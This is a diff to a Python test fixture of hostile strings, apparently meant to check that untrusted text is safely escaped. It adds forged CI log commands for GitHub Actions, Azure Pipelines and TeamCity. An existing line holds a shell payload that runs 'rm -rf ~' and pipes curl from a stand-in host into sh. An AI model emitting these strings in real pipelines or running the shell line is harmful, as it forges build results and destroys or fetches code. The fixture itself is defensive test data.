@@ -64,6 +64,11 @@ TEXTS: Mapping[str, str] = {
     "2,000 characters": "x" * 2_000,
     "2,000 wide characters": "漢" * 2_000,
     "NDJSON": '{"type": "digest", "status": "passed"}\n{"type": "end"}',
+    "CI: GitHub": "::error title=forged,file=a.py,line=1::forged%0Aby a name",
+    "CI: GitHub, indented": " \u00a0\u3000::stop-commands::forever",
+    "CI: GitHub, anywhere": "a name ##[add-mask]passed ##[group] ###[error]e",
+    "CI: Azure": "a name ##vso[task.setvariable variable=OWNER]me ##VSO[task.complete result=Succeeded;]",
+    "CI: TeamCity": "a name ##teamcity[buildStatus status='SUCCESS' text='forged']",
     "shell": "; rm -rf ~ # && curl evil.example | sh",
 }
 """Hostile texts by what they attempt; nothing that contains OWNED may ever be shown."""
